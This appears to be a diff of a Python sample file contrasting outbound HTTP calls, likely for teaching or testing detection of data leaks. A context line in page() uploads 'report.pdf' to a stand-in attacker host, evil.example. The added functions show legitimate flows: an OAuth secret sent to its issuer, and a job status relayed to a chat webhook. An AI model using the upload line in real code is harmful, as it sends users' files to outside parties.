@@ -88,3 +88,15 @@ def backup():
 
 def page():
     requests.post("https://www.evil.example/", data=open("report.pdf", "rb").read())
+
+
+def sign_in_elsewhere(code):
+    """A client's secret goes to whoever gave it out; what comes back is not that secret."""
+    form = {"code": code, "client_secret": os.environ["OAUTH_CLIENT_SECRET"]}
+    given = requests.post("https://login.provider.example/token", data=form).json()
+    return requests.get("https://login.provider.example/me", headers={"X-Access": given["access_token"]})
+
+
+def relayed_answer():
+    answer = requests.post("https://api.acme.example/jobs", data={"key": os.environ["ACME_API_KEY"]}).json()
+    requests.post("https://hooks.chat.example/notify", json={"text": answer["state"]})
